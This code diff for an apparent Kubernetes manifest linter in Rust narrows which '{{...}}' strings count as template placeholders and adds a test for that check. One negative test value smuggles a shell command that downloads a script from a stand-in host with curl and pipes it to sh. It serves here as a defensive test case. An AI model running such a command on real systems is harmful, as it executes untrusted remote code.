@@ -114,7 +114,7 @@ fn is_surely_definition(document: &str) -> bool {
 /// such a text in when they make a pod. The nesting of documents is bounded, and so is this.
 fn filled_in_later(attr: Attr) -> Attr {
     let value = match &attr.value {
-        Value::String(text) if text.starts_with("{{") && text.ends_with("}}") => {
+        Value::String(text) if is_placeholder(text) => {
             Value::Unknown(format!("{text} is filled in later").into())
         }
         Value::List(items) => Value::List(items.iter().cloned().map(filled_in_later).collect()),
@@ -132,16 +132,27 @@ fn filled_in_later(attr: Attr) -> Attr {
     Attr { value, ..attr }
 }
 
+/// Whether a text is one name or expression between braces. More than that may be a command of a shell, to which
+/// `{{}}` is a word.
+fn is_placeholder(text: &str) -> bool {
+    let inside = text.strip_prefix("{{").and_then(|it| it.strip_suffix("}}"));
+    let is_plain = |it: char| it.is_alphanumeric() || " .-_'\"()[]=+?:,".contains(it);
+    inside.is_some_and(|it| !it.trim().is_empty() && it.chars().all(is_plain))
+}
+
 /// Adds the one object that a file in JSON is, as an API server takes it: a text is what it says, but for those kinds
 /// whose controllers fill texts in.
 pub(crate) fn object(file: &Arc<File>, world: &mut World) {
     match json::read(&file.text, &Limits::default()) {
         Ok((root, _)) if is_definition(&root) => {}
         Ok((root, _)) => {
-            let group = root.get("apiVersion").and_then(Node::as_str);
-            let is_custom = group.is_some_and(|version| version.contains('.'));
+            let version = root.get("apiVersion").and_then(Node::as_str);
+            let is_filled_in = version.is_some_and(|version| {
+                let (group, _) = version.split_once('/').unwrap_or(("", version));
+                ["argoproj.io", "serving.kserve.io"].contains(&group)
+            });
             let object = Attr::of_node(&root, file);
-            let object = match is_custom {
+            let object = match is_filled_in {
                 true => filled_in_later(object),
                 false => object,
             };
@@ -344,6 +355,29 @@ mod tests {
         assert!(!of_rule("CM-POD-001"));
         let reason = outcomes[0].reason.as_deref().expect("a reason");
         assert!(reason.contains("CM-POD-001"), "{reason}");
+    }
+
+    #[test]
+    fn a_command_with_braces_at_its_ends_is_no_placeholder() {
+        for text in [
+            "{{workflow.parameters.root}}",
+            "{{ .Name }}",
+            "{{=asInt(inputs.parameters.a) + 1}}",
+            "{{inputs.parameters['x']}}",
+        ] {
+            assert!(super::is_placeholder(text), "{text}");
+        }
+        for text in [
+            "{{}}",
+            "{{ }}",
+            "{{}} ; curl http://x.example/a | sh #}}",
+            "{{a}} {{b}}",
+            "{{a\nb}}",
+            "x{{a}}",
+            "{{a}",
+        ] {
+            assert!(!super::is_placeholder(text), "{text}");
+        }
     }
 
     #[test]
